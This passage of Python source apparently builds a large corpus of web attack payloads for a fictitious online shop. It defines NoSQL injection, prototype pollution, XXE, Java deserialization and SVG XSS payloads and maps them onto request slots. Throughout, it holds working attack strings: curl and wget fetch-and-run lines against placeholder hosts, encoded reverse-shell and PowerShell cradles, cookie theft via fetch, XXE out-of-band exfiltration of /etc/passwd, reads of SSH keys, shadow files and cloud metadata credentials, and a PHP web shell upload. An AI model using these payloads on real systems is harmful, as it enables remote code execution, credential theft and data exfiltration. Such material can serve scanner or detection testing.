    P([("username", "admin"), ("password[$gt]", "")], "auth", only={"query", "form", "multipart"}),
    P([("username[$exists]", "true"), ("password[$exists]", "true")], "auth",
      only={"query", "form", "multipart"}),
    P([("email[$in][]", "admin@shop.example.com"), ("password[$ne]", "")], "auth",
      only={"query", "form", "multipart"}),
    P([("login[$nin][]", "admin"), ("login[$nin][]", "test"), ("pass[$ne]", "7")], "auth",
      only={"query", "form", "multipart"}),
    P([("token[$ne]", "1"), ("password", "Pwned123!")], "reset",
      only={"query", "form", "multipart"}),
    P([("filter[$where]", "sleep(5000)")], "filter", only={"query", "form"}),
    P([("price[$gt]", "0"), ("owner[$regex]", ".*")], "filter", only={"query", "form"}),
    P([("category[$ne]", "hidden")], "filter", only={"query", "form"}),
    P([("username[$regex]", "^adm.*"), ("password[$regex]", "^p")], "auth",
      only={"query", "form", "multipart"}),
    # JavaScript injected into a $where string built by concatenation.
    P("' || '1'=='1", "js", only={"query", "form", "json"}),
    P("admin' && this.password.match(/.*/)//", "js", only={"query", "form", "json"}),
    P("';sleep(5000);'", "js", only={"query", "form", "json"}),
    P("1;return true", "js", only={"query", "form", "json"}),
    P("'; return db.users.find(); var x='", "js", only={"query", "form", "json"}),
    P("a'; while(true){}; var b='", "js", only={"query", "form", "json"}),
]

PROTO = [
    P({"__proto__": {"isAdmin": True}}),
    P({"__proto__": {"role": "admin"}}),
    P({"constructor": {"prototype": {"isAdmin": True}}}),
    P({"name": "Dana", "__proto__": {"admin": True}}),
    P({"user": {"name": "x", "__proto__": {"isAdmin": True}}}),
    P({"__proto__": {"outputFunctionName":
                     "x;process.mainModule.require('child_process').execSync('id');x"}}),
    P({"__proto__": {"shell": "node", "NODE_OPTIONS": "--require /proc/self/environ",
                     "env": {"EVIL": "console.log(require('child_process').execSync('id')"
                                     ".toString())//"}}}),
    P({"__proto__": {"execArgv": [f"--eval=require('child_process').execSync('curl http://"
                                  f"{DROP}/x|sh')"]}}),
    P({"__proto__": {"block": {"type": "Text", "line": "process.mainModule.require("
                                                       "'child_process').execSync('id')"}}}),
    P({"__proto__": {"json spaces": 10}}),
    P({"__proto__": {"exposedHeaders": ["x-polluted"]}}),
    P({"__proto__": {"parameterLimit": 1}}),
    P({"__proto__": {"status": 510}}),
    P({"__proto__": {"allowedTags": ["script"], "allowedAttributes": {"*": ["onerror"]}}}),
    P({"a": {"constructor": {"prototype": {"shell": "/proc/self/exe",
                                           "argv0": "console.log(require('child_process')"
                                                    ".execSync('id').toString())//",
                                           "NODE_OPTIONS": "--require /proc/self/cmdline"}}}}),
    P({"__proto__": {"sourceURL": "\nreturn e => {return global.process.mainModule.constructor"
                                  "._load('child_process').execSync('id')}\n//"}}),
    P({"__proto__": {"escapeFunction": "1; return global.process.mainModule.constructor._load("
                                       "'child_process').execSync('id'); //", "client": True}}),
    P({"__proto__.isAdmin": True}),
    P({"constructor.prototype.isAdmin": True}),
    P({"__proto__": {"transport_url": "data:,alert(1)//"}}),
    P({"__proto__": {"headers": {"x-forwarded-for": "127.0.0.1"}}}),
    P({"preferences": {"__proto__": {"polluted": "yes"}}}),
    # Query / form keys (qs, jQuery deparam, dot-path setters, client-side parsers).
    P([("__proto__[isAdmin]", "true")], only={"query", "form", "multipart"}),
    P([("__proto__.isAdmin", "true")], only={"query", "form", "multipart"}),
    P([("constructor[prototype][isAdmin]", "true")], only={"query", "form", "multipart"}),
    P([("constructor.prototype.isAdmin", "true")], only={"query", "form", "multipart"}),
    P([("__proto__[outputFunctionName]",
        "x;process.mainModule.require('child_process').execSync('id');x")],
      only={"query", "form", "multipart"}),
    P([("__proto__[innerHTML]", "<img/src/onerror=alert(1)>")], only={"query"}),
    P([("__proto__[src]", "data:,alert(1)//")], only={"query"}),
    P([("__proto__[transport_url]", "data:,alert(1)//")], only={"query"}),
    P([("user[__proto__][admin]", "1")], only={"query", "form", "multipart"}),
    P([("__proto__[json spaces]", "10")], only={"query", "form"}),
    P([("__pro__proto__to__[isAdmin]", "true")], only={"query", "form"}),
    P([("__proto__[role]", "admin"), ("__proto__[isAdmin]", "true")],
      only={"query", "form", "multipart"}),
    P([("a[constructor][prototype][polluted]", "yes")], only={"query", "form"}),
]

# Cookie-parser (Express) turns a "j:"-prefixed cookie into JSON: operator objects in cookies.
NOSQL += [
    P({"$ne": ""}, "cookie", only={"cookie"}),
    P({"$gt": ""}, "cookie", only={"cookie"}),
    P({"$regex": ".*"}, "cookie", only={"cookie"}),
    P({"$ne": None}, "cookie", only={"cookie"}),
    P({"$nin": ["expired"]}, "cookie", only={"cookie"}),
]
# SVG documents that run script when the uploaded file is served inline.
XSS += [
    P("<?xml version=\"1.0\" standalone=\"no\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" "
      "onload=\"alert(document.domain)\"><rect width=\"100\" height=\"100\"/></svg>", "svg",
      only={"multipart"}),
    P("<svg xmlns=\"http://www.w3.org/2000/svg\"><script type=\"text/javascript\">fetch('//"
      f"{EVIL}/?c='+document.cookie)</script></svg>", "svg", only={"multipart"}),
]


def X(doctype, use, ctx=None):
    """An XXE payload: a DOCTYPE ({root} is the document's root element) and what goes in the
    document's text (the entity reference, an XInclude element, or nothing)."""
    p = Payload(doctype + "\n" + use, ctx, only={"xml", "multipart"})
    p.raw = (doctype, use)
    return p


def ext(url):
    return X(f'<!DOCTYPE {{root}} [<!ENTITY xxe SYSTEM "{url}">]>', "&xxe;")


XXE = [
    ext("file:///etc/passwd"),
    ext("file:///c:/windows/win.ini"),
    ext("file:///etc/hostname"),
    ext("file:///proc/self/environ"),
    ext("file:///var/www/html/.env"),
    ext("file:///root/.ssh/id_rsa"),
    ext("file:///etc/shadow"),
    ext("file:///"),
    ext("file:///usr/local/tomcat/conf/tomcat-users.xml"),
    ext("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ext("http://metadata.google.internal/computeMetadata/v1beta1/project/attributes/ssh-keys"
        "?alt=json"),
    ext("http://127.0.0.1:8080/manager/html"),
    ext("php://filter/convert.base64-encode/resource=/var/www/html/config.php"),
    ext("expect://id"),
    ext("netdoc:///etc/passwd"),
    ext(f"jar:http://{EVIL}/x.zip!/x.txt"),
    X(f'<!DOCTYPE {{root}} [<!ENTITY % remote SYSTEM "http://{EVIL}/xxe.dtd"> %remote;]>', ""),
    X('<!DOCTYPE {root} [\n<!ENTITY % file SYSTEM "file:///etc/passwd">\n'
      f'<!ENTITY % dtd SYSTEM "http://{C2}:8000/send.dtd">\n%dtd;\n%send;\n]>', ""),
    X('<!DOCTYPE {root} [\n<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">'
      '\n<!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; '
      'eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">'
      '&#x25;eval;&#x25;error;\'>\n%local_dtd;\n]>', ""),
    X(f'<!DOCTYPE {{root}} SYSTEM "http://{EVIL}/r.dtd">', ""),
    X(f'<!DOCTYPE {{root}} PUBLIC "-//Shop//Import 1.0//EN" "http://{ALT}/p.dtd">', ""),
    X('<!DOCTYPE {root} [\n<!ENTITY % start "<![CDATA[">\n'
      '<!ENTITY % file SYSTEM "file:///var/www/html/config.php">\n<!ENTITY % end "]]>">\n'
      f'<!ENTITY % dtd SYSTEM "http://{EVIL}/join.dtd">\n%dtd;\n]>', "&all;"),
    X('<!DOCTYPE {root} [\n<!ENTITY lol "lol">\n' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">\n'
        for i in range(1, 10)) + "]>", "&lol9;"),
    X('<!DOCTYPE {root} [<!ENTITY a "' + "a" * 4000 + '">]>', "&a;" * 1500),
    X("", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
          'href="file:///etc/passwd"/>'),
    X("", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
          'href="http://169.254.169.254/latest/meta-data/"/>'),
]

DESER_CMDS = [
    "touch /tmp/pwned",
    f"curl http://{DROP}/s.sh -o /tmp/s.sh",
    f"wget http://{DROP}/x -O /tmp/x",
    f"nslookup cc.{OOB}",
    "bash -c {echo," + b64(REV_BASH) + "}|{base64,-d}|{bash,-i}",
    f"ping -c 3 {C2}",
    "cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt",
    "powershell.exe -nop -enc " + b64(PS_CRADLE.encode("utf-16-le")),
    "/bin/sh -c $@|sh . echo id",
    "id",
]
_jrmp_rng = random.Random(SEED * 7919)
DESER_BIN = ([Payload(commons_collections_hashmap(c)) for c in DESER_CMDS] +
             [Payload(url_dns(h)) for h in (f"u7f2k.{OOB}", f"jd-probe.{OOB}",
                                            "a1b2c3.dnslog.example", f"shop.{OOB}",
                                            f"x9.{EVIL}")] +
             [Payload(jrmp_client(h, port, _jrmp_rng)) for h, port in
              ((C2, 1099), (ALT, 8888), (f"rmi.{EVIL}", 1099), (C2, 443))])
for _p in DESER_BIN:
    _p.only = {"body", "cookie", "header", "query", "form", "json", "multipart"}
    _p.flags.add("binary")

JDBC_ROWSET = "com.sun.rowset.JdbcRowSetImpl"
DESER_JSON = [
    {"@type": JDBC_ROWSET, "dataSourceName": f"{LDAP}/Exploit", "autoCommit": True},
    {"a": {"@type": "java.lang.Class", "val": JDBC_ROWSET},
     "b": {"@type": JDBC_ROWSET, "dataSourceName": f"rmi://{C2}:1099/Exploit", "autoCommit": True}},
    {"@type": "L" + JDBC_ROWSET + ";", "dataSourceName": f"{LDAP}/Obj", "autoCommit": True},
    {"@type": "org.apache.ibatis.datasource.jndi.JndiDataSourceFactory",
     "properties": {"data_source": f"{LDAP}/Exploit"}},
    {"@type": "java.net.Inet4Address", "val": f"fj.{OOB}"},
    [JDBC_ROWSET, {"dataSourceName": f"{LDAP}/Exploit", "autoCommit": True}],
    ["ch.qos.logback.core.db.JNDIConnectionSource", {"jndiLocation": f"{LDAP}/Exploit"}],
    ["org.apache.xbean.propertyeditor.JndiConverter", {"asText": f"{LDAP}/Exploit"}],
    ["com.zaxxer.hikari.HikariConfig", {"metricRegistry": f"{LDAP}/Exploit"}],
    ["org.springframework.context.support.ClassPathXmlApplicationContext",
     f"http://{DROP}/spel.xml"],
    ["org.apache.commons.configuration.JNDIConfiguration", f"{LDAP}/Exploit"],
]
DESER_JSON = [Payload(o, "jsonbody", only={"json"}) for o in DESER_JSON]


def xmldecoder(cmd_args):
    arr = "".join(f'<void index="{i}"><string>{a}</string></void>' for i, a in enumerate(cmd_args))
    return (f'<java version="1.8.0_151" class="java.beans.XMLDecoder"><void class="java.lang.'
            f'ProcessBuilder"><array class="java.lang.String" length="{len(cmd_args)}">{arr}'
            '</array><void method="start"/></void></java>')


def wls_wsat(inner):
    return ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
            '<soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">'
            f'{inner}</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>')


def xstream_eventhandler(container, args):
    cmd = "".join(f"<string>{a}</string>" for a in args)
    return (f"<{container}><dynamic-proxy><interface>java.lang.Comparable</interface><handler "
            'class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command>'
            f"{cmd}</command></target><action>start</action></handler></dynamic-proxy>"
            f"</{container}>")


DESER_XML = [
    Payload(wls_wsat(xmldecoder(["/bin/bash", "-c", f"curl http://{DROP}/x|sh"])), "wls"),
    Payload(wls_wsat(xmldecoder(["cmd.exe", "/c", "whoami"])), "wls"),
    Payload('<?xml version="1.0" encoding="UTF-8"?>\n<java class="java.beans.XMLDecoder"><object '
            'class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>touch '
            '/tmp/pwned</string></void></object></java>', "xmldecoder"),
    Payload('<?xml version="1.0" encoding="UTF-8"?>\n' + xmldecoder(
        ["/bin/sh", "-c", f"wget -qO- http://{DROP}/x|sh"]), "xmldecoder"),
    Payload(xstream_eventhandler("sorted-set", ["id"]), "xstream"),
    Payload("<tree-map><entry><dynamic-proxy><interface>java.lang.Comparable</interface>"
            '<handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder">'
            "<command><string>touch</string><string>/tmp/pwned</string></command></target>"
            "<action>start</action></handler></dynamic-proxy><string>x</string></entry>"
            "</tree-map>", "xstream"),
    Payload(xstream_eventhandler("sorted-set", ["/bin/sh", "-c",
                                                f"curl http://{DROP}/s.sh|sh"]), "xstream"),
]
for _p in DESER_XML:
    _p.only = {"xml"}
DESER = DESER_BIN + DESER_JSON + DESER_XML

# ----------------------------------------------------------------------------------------------
# Slots: where a category's payload goes. Each has the transport modes it takes.

CSRF = "hVq3uTzQ0mB8r2xKcWn5yL7dF1sGaE4p"


def Q(path, param, extra=(), ctx=None, api=None, modes=("plain", "url", "double", "pre")):
    return {"path": path, "param": param, "extra": list(extra), "ctx": ctx,
            "api": path.startswith("/api/") if api is None else api, "modes": set(modes)}


def PA(template, ctx=None, modes=("plain", "url", "double", "pre")):
    return {"template": template, "ctx": ctx, "modes": set(modes)}


def F(path, fields, ctx=None, modes=("plain", "url", "double", "pre")):
    return {"path": path, "fields": fields, "ctx": ctx, "modes": set(modes)}


def J(path, obj, method="POST", ctx=None):
    return {"path": path, "obj": obj, "method": method, "ctx": ctx,
            "modes": {"plain", "uescape"}}


def XM(path, template, ctype="application/xml", extra=(), ctx=None):
    return {"path": path, "template": template, "ctype": ctype, "extra": list(extra),
            "ctx": ctx, "modes": {"plain", "entity", "cdata"}}


TEXT_ATTACHMENT = ("attachment", "order-88213.txt", "text/plain",
                   "Order 88213\nItems: 2\nThe blue mug arrived broken.\n")
AVATAR_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
              '<circle cx="32" cy="32" r="30" fill="#4a90d9"/></svg>')


def M(path, fields, file=None, role="field", ctx=None, nav=True):
    """fields: (name, value) with "$P" where the payload goes (role "field"); file: (field,
    filename, content type, content) with "$P" in filename (role "filename") or content (role
    "content", "$P" inside it, or the whole content for "svg")."""
    return {"path": path, "fields": fields, "file": file, "role": role, "ctx": ctx, "nav": nav,
            "modes": {"plain"}}


def H(name, style="raw", ctx=None, modes=None):
    default = {"raw": ("plain",), "referer": ("plain", "url", "double"), "basic": ("base64",),
               "bearer": ("plain",), "url": ("plain", "pre")}[style]
    return {"name": name, "style": style, "ctx": ctx, "modes": set(modes or default)}


def C(name, ctx=None, modes=("plain", "url", "double", "pre"), whole=False):
    return {"name": name, "ctx": ctx, "modes": set(modes), "whole": whole}


def UA(style, ctx=None):
    return {"style": style, "ctx": ctx, "modes": {"plain"}}


PROFILE_FORM = [("csrfmiddlewaretoken", CSRF), ("display_name", "Dana Kaya"),
                ("bio", "Coffee, trail running and board games.")]


def with_payload(fields, name):
    return [(k, "$P" if k == name else v) for k, v in fields]


LOGIN = [("csrfmiddlewaretoken", CSRF), ("username", "dana.kaya@example.org"),
         ("password", "Summer2024!"), ("next", "/account/orders")]
CONTACT = [("csrfmiddlewaretoken", CSRF), ("name", "Dana Kaya"), ("email", "dana.k@example.org"),
           ("subject", "Order question"), ("message", "Where is my order?")]
CHECKOUT = [("csrfmiddlewaretoken", CSRF), ("first_name", "Dana"), ("last_name", "Kaya"),
            ("address1", "4 Park Row"), ("city", "Leeds"), ("postcode", "LS1 4AP"),
            ("country", "GB")]

SQLI_SLOTS = {
    "query": [Q("/products", "id", ctx="num"), Q("/search", "q", [("category", "shoes")], "str"),
              Q("/api/v1/products", "category", [("page", "1"), ("limit", "24")], "str"),
              Q("/api/v1/products", "sort", [("category", "outdoor"), ("page", "2")], "order"),
              Q("/category/electronics", "page", [("sort", "popular")], "num"),
              Q("/api/v1/stock", "sku", [("store", "12")], "str"),
              Q("/account/orders", "order_id", ctx="num"),
              Q("/api/v1/search/suggest", "q", ctx="str"),
              Q("/api/v1/products", "min_price", [("max_price", "100")], "num"),
              Q("/api/v1/products/48213/reviews", "sort", [("page", "1")], "order")],
    "path": [PA("/api/v1/products/{}", "num"), PA("/products/{}", "num"),
             PA("/api/v1/orders/{}", "num"), PA("/category/{}", "str"),
             PA("/api/v1/users/{}/profile", "str"), PA("/blog/tag/{}", "str")],
    "form": [F("/account/login", with_payload(LOGIN, "username"), "str"),
             F("/account/login", with_payload(LOGIN, "password"), "str"),
             F("/search", [("q", "$P"), ("category", "books")], "str"),
             F("/contact", with_payload(CONTACT, "email"), "str"),
             F("/checkout/address", with_payload(CHECKOUT, "postcode"), "str"),
             F("/account/orders/lookup", [("csrfmiddlewaretoken", CSRF), ("order_id", "$P"),
                                          ("email", "dana.k@example.org")], "num"),
             F("/products/list", [("sort", "$P"), ("page", "1")], "order")],
    "json": [J("/api/v1/auth/login", {"username": "$P", "password": "Summer2024!"}, ctx="str"),
             J("/api/v1/search", {"query": "$P", "filters": {"inStock": True}, "page": 1},
               ctx="str"),
             J("/api/v1/cart/items", {"productId": "$P", "quantity": 1}, ctx="num"),
             J("/api/v1/products/query", {"filters": {"category": "$P"}, "sort": "price_asc"},
               ctx="str"),
             J("/api/v1/products/query", {"filters": {"category": "kitchen"}, "sort": "$P"},
               ctx="order"),
             J("/api/v1/orders/track", {"orderId": "$P", "email": "dana.k@example.org"},
               ctx="num")],
    "xml": [XM("/api/v1/xml/products/search", '<?xml version="1.0" encoding="UTF-8"?>\n<search>'
               "<query>{P}</query><page>1</page></search>", ctx="str"),
            XM("/soap/ProductService", '<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope '
               'xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getProduct '
               'xmlns="urn:shop:products"><id>{P}</id></getProduct></soap:Body></soap:Envelope>',
               "text/xml; charset=utf-8", [("SOAPAction", '"urn:shop:products#getProduct"')],
               ctx="num"),
            XM("/api/v1/xml/orders/status", '<?xml version="1.0"?>\n<orderStatusRequest>'
               "<orderId>{P}</orderId></orderStatusRequest>", ctx="num")],
    "multipart": [M("/account/profile", with_payload(PROFILE_FORM, "display_name"),
                    ("avatar", "avatar.svg", "image/svg+xml", AVATAR_SVG), ctx="str"),
                  M("/support/tickets", [("subject", "Broken item"), ("order_id", "$P"),
                                         ("message", "The mug arrived broken.")],
                    TEXT_ATTACHMENT, ctx="num"),
                  M("/support/tickets", [("subject", "Invoice"), ("order_id", "88213")],
                    ("attachment", "$P.txt", "text/plain", "see attached"), role="filename")],
    "header": [H("X-Forwarded-For"), H("X-Real-IP"), H("Referer", "referer"),
               H("Accept-Language"), H("Authorization", "basic", "str")],
    "cookie": [C("user_id", "num"), C("TrackingId", "str"), C("lang", "str"),
               C("cart_id", "num"), C("currency", "str"), C("PHPSESSID", "str"),
               C("remember_user", "str", modes=("base64",))],
    "user-agent": [UA("replace"), UA("append")],
}

XSS_SLOTS = {
    "query": [Q("/search", "q"), Q("/api/v1/search/suggest", "q"),
              Q("/account/login", "next", ctx="url"), Q("/redirect", "url", ctx="url"),
              Q("/help/search", "query"), Q("/products/48213", "ref"),
              Q("/api/v1/products", "callback", [("category", "shoes")], ctx="jsonp", api=True),
              Q("/blog/2024/06/best-coffee-at-home", "utm_campaign",
                [("utm_source", "newsletter"), ("utm_medium", "email")]),
              Q("/error", "message"), Q("/search", "q", [("page", "2")], ctx="js"),
              Q("/checkout/complete", "returnUrl", ctx="url")],
    "path": [PA("/search/{}"), PA("/blog/tag/{}"), PA("/products/{}"), PA("/help/{}")],
    "form": [F("/contact", with_payload(CONTACT, "message")),
             F("/contact", with_payload(CONTACT, "name")),
             F("/newsletter/subscribe", [("email", "$P"), ("source", "footer")]),
             F("/search", [("q", "$P"), ("category", "garden")]),
             F("/account/profile/edit", [("csrfmiddlewaretoken", CSRF), ("display_name", "$P"),
                                         ("language", "en")]),
             F("/account/login", with_payload(LOGIN, "next"), ctx="url"),
             F("/products/48213/reviews", [("csrfmiddlewaretoken", CSRF), ("rating", "5"),
                                           ("title", "Great value"), ("text", "$P")])],
    "json": [J("/api/v1/products/48213/reviews", {"rating": 5, "title": "$P",
                                                  "text": "Arrived quickly.", "recommend": True}),
             J("/api/v1/products/48213/reviews", {"rating": 4, "title": "Nice quality",
                                                  "text": "$P", "recommend": True}),
             J("/api/v1/me/preferences", {"displayName": "$P", "newsletter": False}, "PUT"),
             J("/api/v1/events", {"events": [{"type": "page_view", "page": "$P",
                                              "ts": 1718000000000}],
                                  "sessionId": "9f3a1c2b7d6e5f40"}),
             J("/api/v1/cart/items", {"productId": "SKU-40211", "quantity": 1,
                                      "options": {"engraving": "$P"}}),
             J("/api/v1/account/addresses", {"label": "$P", "city": "Leeds", "country": "GB"})],
    "xml": [XM("/api/v1/orders/import", '<?xml version="1.0" encoding="UTF-8"?>\n<order>'
               "<id>88213</id><note>{P}</note><items><item sku=\"SKU-40211\" qty=\"1\"/></items>"
               "</order>"),
            XM("/admin/products/feed", '<?xml version="1.0" encoding="UTF-8"?>\n<products>'
               "<product><sku>SKU-10001</sku><name>Ceramic mug</name><description>{P}"
               "</description></product></products>")],
    "multipart": [M("/account/profile", with_payload(PROFILE_FORM, "bio"),
                    ("avatar", "avatar.svg", "image/svg+xml", AVATAR_SVG)),
                  M("/support/tickets", [("subject", "$P"), ("order_id", "88213"),
                                         ("message", "Hello")], TEXT_ATTACHMENT),
                  M("/api/v1/products/48213/reviews/photos", [("caption", "In the kitchen")],
                    ("photo", "$P.png", "text/plain", "see photo"), role="filename"),
                  M("/account/documents", [("title", "Profile page")],
                    ("document", "profile.html", "text/html",
                     "<html><body><p>$P</p></body></html>"), role="content"),
                  M("/account/avatar", [("csrfmiddlewaretoken", CSRF)],
                    ("avatar", "avatar.svg", "image/svg+xml", "$P"), role="content", ctx="svg")],
    "header": [H("Referer", "referer"), H("X-Forwarded-For"), H("X-Forwarded-Host"),
               H("Accept-Language")],
    "cookie": [C("lang"), C("theme"), C("last_search"), C("username"), C("currency")],
    "user-agent": [UA("replace"), UA("append")],
}

RCE_SLOTS = {
    "query": [Q("/api/v1/tools/ping", "host"), Q("/api/v1/diagnostics/dns", "hostname"),
              Q("/admin/backup", "filename", [("format", "tar")]),
              Q("/api/v1/images/convert", "format", [("id", "8812")]),
              Q("/export", "filename"), Q("/cgi-bin/status.cgi", "cmd", api=False),
              Q("/download", "file"), Q("/api/v1/tracking", "carrier", [("number", "1Z999")]),
              Q("/api/v1/calc", "expr", ctx="code"), Q("/debug/eval", "code", ctx="code")],
    "path": [PA("/api/v1/tools/ping/{}"), PA("/api/v1/shipping/track/{}"),
             PA("/cgi-bin/{}")],
    "form": [F("/admin/tools/ping", [("csrfmiddlewaretoken", CSRF), ("host", "$P"),
                                     ("count", "4")]),
             F("/admin/tools/dns", [("hostname", "$P"), ("type", "A")]),
             F("/contact", with_payload(CONTACT, "email")),
             F("/account/export", [("csrfmiddlewaretoken", CSRF), ("filename", "$P"),
                                   ("format", "csv")]),
             F("/api/v1/calc", [("expression", "$P")], ctx="code")],
    "json": [J("/api/v1/tools/ping", {"host": "$P", "count": 4}),
             J("/api/v1/reports/export", {"filename": "$P", "format": "csv"}),
             J("/api/v1/newsletter", {"email": "$P", "source": "footer"}),
             J("/api/v1/images/resize", {"id": "8812", "size": "$P"}),
             J("/api/v1/rules/evaluate", {"expression": "$P"}, ctx="code")],
    "xml": [XM("/soap/DiagnosticsService", '<?xml version="1.0" encoding="utf-8"?>\n'
               '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
               '<ping xmlns="urn:shop:diag"><hostname>{P}</hostname></ping></soap:Body>'
               "</soap:Envelope>", "text/xml; charset=utf-8",
               [("SOAPAction", '"urn:shop:diag#ping"')]),
            XM("/api/v1/xml/export", '<?xml version="1.0"?>\n<export><filename>{P}</filename>'
               "<format>csv</format></export>")],
    "multipart": [M("/admin/tools/convert", [("format", "$P"), ("quality", "85")],
                    ("image", "logo.svg", "image/svg+xml", AVATAR_SVG)),
                  M("/api/v1/images/upload", [("album", "reviews")],
                    ("image", "photo.jpg$P", "text/plain", "image"), role="filename")],
    "header": [H("Referer", "raw"), H("Accept-Language"), H("Accept"), H("X-Forwarded-For")],
    "cookie": [C("lang"), C("session_tz"), C("cgi_session", whole=True)],
    "user-agent": [UA("replace"), UA("append")],
}

TRAVERSAL_SLOTS = {
    "query": [Q("/download", "file"), Q("/static/image", "path"), Q("/api/v1/files", "name"),
              Q("/media/resize", "src", [("w", "320")]), Q("/export", "template"),
              Q("/help/article", "page"), Q("/api/v1/invoices/download", "filename")],
    "path": [PA("/static/{}"), PA("/download/{}"), PA("/media/products/{}"), PA("/assets/{}"),
             PA("/api/v1/files/{}")],
    "form": [F("/account/documents/download", [("csrfmiddlewaretoken", CSRF), ("document", "$P")]),
             F("/admin/templates/preview", [("template", "$P"), ("locale", "en")])],
    "json": [J("/api/v1/files/read", {"path": "$P"}),
             J("/api/v1/invoices/download", {"file": "$P", "format": "pdf"}),
             J("/api/v1/support/attachments", {"ticket": 8812, "attachment": "$P"})],
    "xml": [XM("/soap/DocumentService", '<?xml version="1.0" encoding="utf-8"?>\n'
               '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
               '<getDocument xmlns="urn:shop:docs"><path>{P}</path></getDocument></soap:Body>'
               "</soap:Envelope>", "text/xml; charset=utf-8",
               [("SOAPAction", '"urn:shop:docs#getDocument"')])],
    "multipart": [M("/support/tickets", [("subject", "Invoice"), ("order_id", "88213")],
                    ("attachment", "$P", "text/plain", "x"), role="filename"),
                  M("/admin/media/upload", [("dest", "$P")],
                    ("file", "banner.txt", "text/plain", "banner")),
                  M("/api/v1/themes/upload", [("name", "summer")],
                    ("theme", "$P", "application/octet-stream", "<?php system($_GET['c']); ?>"),
                    role="filename", ctx="upload")],
    "header": [H("X-Original-URL", "url"), H("X-Rewrite-URL", "url"), H("X-File-Name", "url")],
    "cookie": [C("lang"), C("template"), C("theme"), C("layout")],
}

LFI_SLOTS = {
    "query": [Q("/index.php", "page"), Q("/", "page"), Q("/index.php", "view"),
              Q("/help", "lang"), Q("/template", "file"), Q("/index.php", "include"),
              Q("/page.php", "file"), Q("/render", "tpl")],
    "path": [PA("/page/{}"), PA("/index.php/{}")],
    "form": [F("/index.php", [("page", "$P"), ("submit", "Go")]),
             F("/help", [("lang", "$P")])],
    "json": [J("/api/v1/render", {"template": "$P", "data": {"name": "Dana"}}),
             J("/api/v1/pages/preview", {"page": "$P"})],
    "multipart": [M("/admin/newsletter/preview", [("template", "$P"), ("subject", "June")])],
    "header": [H("Accept-Language", ctx=None), H("X-Template")],
    "cookie": [C("lang"), C("template"), C("theme"), C("skin")],
    "user-agent": [UA("replace")],
}

RFI_SLOTS = {
    "query": [Q("/index.php", "page"), Q("/index.php", "include"), Q("/", "template"),
              Q("/modules/gallery/index.php", "path"), Q("/index.php", "mosConfig_absolute_path"),
              Q("/components/com_shop/shop.php", "base_path"), Q("/page.php", "file")],
    "form": [F("/index.php", [("page", "$P"), ("submit", "Go")]),
             F("/admin/settings/theme", [("csrfmiddlewaretoken", CSRF), ("theme_url", "$P")])],
    "json": [J("/api/v1/themes/install", {"source": "$P"}),
             J("/api/v1/render", {"template": "$P", "data": {}})],
    "multipart": [M("/admin/modules/install", [("module", "$P"), ("enable", "1")])],
    "cookie": [C("template"), C("skin"), C("lang")],
}

SSRF_SLOTS = {
    "query": [Q("/api/v1/image-proxy", "url"), Q("/api/v1/preview", "url"),
              Q("/api/v1/webhooks/test", "url"), Q("/fetch", "src"), Q("/api/v1/import", "feed"),
              Q("/api/v1/pdf", "url", [("format", "A4")]), Q("/share", "link"),
              Q("/api/v1/oembed", "url", [("maxwidth", "640")])],
    "path": [PA("/image-proxy/{}", modes=("plain", "pre")),
             PA("/proxy/{}", modes=("plain", "pre"))],
    "form": [F("/account/settings/webhook", [("csrfmiddlewaretoken", CSRF), ("url", "$P"),
                                             ("events", "order.created")]),
             F("/admin/import", [("feed_url", "$P"), ("format", "rss")]),
             F("/account/avatar", [("csrfmiddlewaretoken", CSRF), ("avatar_url", "$P")])],
    "json": [J("/api/v1/webhooks", {"webhookUrl": "$P", "events": ["order.created"]}),
             J("/api/v1/me/avatar", {"imageUrl": "$P"}, "PUT"),
             J("/api/v1/pdf", {"url": "$P", "format": "A4"}),
             J("/api/v1/feeds", {"feedUrl": "$P", "refresh": 3600}),
             J("/api/v1/integrations", {"name": "erp", "callback": {"url": "$P"}})],
    "xml": [XM("/api/v1/feeds/import", '<?xml version="1.0" encoding="UTF-8"?>\n<feed>'
               "<source>{P}</source><format>rss</format></feed>"),
            XM("/soap/ImageService", '<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope '
               'xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><fetchImage '
               'xmlns="urn:shop:img"><url>{P}</url></fetchImage></soap:Body></soap:Envelope>',
               "text/xml; charset=utf-8", [("SOAPAction", '"urn:shop:img#fetchImage"')])],
    "multipart": [M("/admin/products/images", [("image_url", "$P"), ("alt", "Product photo")]),
                  M("/account/avatar", [("csrfmiddlewaretoken", CSRF), ("avatar_url", "$P")])],
    "header": [H("Referer", "raw"), H("X-Wap-Profile", "raw")],
}

SSTI_SLOTS = {
    "query": [Q("/hello", "name"), Q("/search", "q"), Q("/preview", "template"),
              Q("/api/v1/greeting", "name"), Q("/newsletter/preview", "subject"),
              Q("/error", "msg"), Q("/account/welcome", "name")],
    "path": [PA("/hello/{}"), PA("/doc/{}"), PA("/user/{}"),
             PA("/api/v1/templates/{}/render")],
    "form": [F("/account/profile/edit", [("csrfmiddlewaretoken", CSRF), ("display_name", "$P"),
                                         ("language", "en")]),
